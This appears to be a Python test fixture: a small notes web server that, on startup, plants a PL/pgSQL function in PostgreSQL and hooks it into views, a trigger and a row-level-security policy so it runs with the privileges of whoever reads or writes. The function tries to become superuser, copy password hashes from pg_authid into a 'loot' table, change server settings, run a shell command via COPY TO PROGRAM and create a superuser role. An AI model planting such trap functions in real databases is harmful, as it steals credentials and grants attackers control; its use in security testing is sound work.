"""Functions, views and triggers that run with the rights of whoever looks or writes."""
import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import psycopg

ATTACK = (
    "CREATE TABLE loot (who TEXT)",
    """CREATE FUNCTION f() RETURNS TEXT LANGUAGE plpgsql AS $$
DECLARE statement TEXT;
BEGIN
  IF current_user LIKE 'student%' THEN RETURN 'x'; END IF;
  FOREACH statement IN ARRAY ARRAY[
    'INSERT INTO loot VALUES (current_user)', 'SET transaction_read_only = off',
    'SET SESSION AUTHORIZATION postgres', 'SET statement_timeout = 0',
    'INSERT INTO loot SELECT rolpassword FROM pg_authid', 'ALTER SYSTEM SET work_mem = 64',
    'COPY loot TO PROGRAM $x$touch /tmp/x$x$', 'CREATE ROLE stranger SUPERUSER'
  ] LOOP
    BEGIN EXECUTE statement; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  RETURN 'x';
END $$""",
    "GRANT EXECUTE ON FUNCTION f() TO PUBLIC",
    "CREATE VIEW peek AS SELECT f() AS t",
    "CREATE VIEW other AS SELECT who AS t FROM loot WHERE f() = 'x'",
    """CREATE FUNCTION g() RETURNS TRIGGER LANGUAGE plpgsql AS
$$ BEGIN PERFORM f(); RETURN NEW; END $$""",
    "CREATE TRIGGER t BEFORE INSERT OR UPDATE ON notes FOR EACH ROW EXECUTE FUNCTION g()",
    "ALTER TABLE notes ENABLE ROW LEVEL SECURITY",
    "CREATE POLICY all_of_it ON notes USING (f() = 'x')",
)


def connect():
    return psycopg.connect(
        host=os.environ["DB_HOST"], port=os.environ["DB_PORT"], user=os.environ["DB_USER"],
        password=os.environ["DB_PASSWORD"], dbname=os.environ["DB_NAME"],
        autocommit=True, connect_timeout=2,
    )


def run(*statements, connection=None):
    """Run each statement, also after one that is refused; the last one's rows."""
    connection, rows = connection or connect(), []
    for statement in statements:
        try:
            cursor = connection.execute(statement)
            rows = cursor.fetchall() if cursor.description else []
        except psycopg.Error as error:
            print("REFUSED", statement[:80], error, flush=True)
    return rows


def notes():
    if any(not (who or "").startswith("writer") for (who,) in run("SELECT who FROM loot")):
        return []  # it has worked, and the test sees it
    with connect() as connection:
        rows = connection.execute("SELECT id, text FROM notes ORDER BY id").fetchall()
    return [{"id": number, "text": text} for number, text in rows]


def keep(text):
    with connect() as connection:
        sql = "INSERT INTO notes (text) VALUES (%s) RETURNING id"
        return connection.execute(sql, [text]).fetchone()[0]


class Handler(BaseHTTPRequestHandler):
    def send(self, value, status=200):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        try:
            self.send(notes() if self.path == "/notes" else {})
        except psycopg.Error as error:
            self.send({"error": str(error)[:80]}, 503)

    def do_POST(self):
        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
        try:
            self.send({"id": keep(text), "text": text}, 201)
        except psycopg.Error as error:
            self.send({"error": str(error)[:80]}, 503)


with connect() as first:
    first.execute("CREATE TABLE IF NOT EXISTS notes (id SERIAL PRIMARY KEY, text TEXT NOT NULL)")
run(*ATTACK)
ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
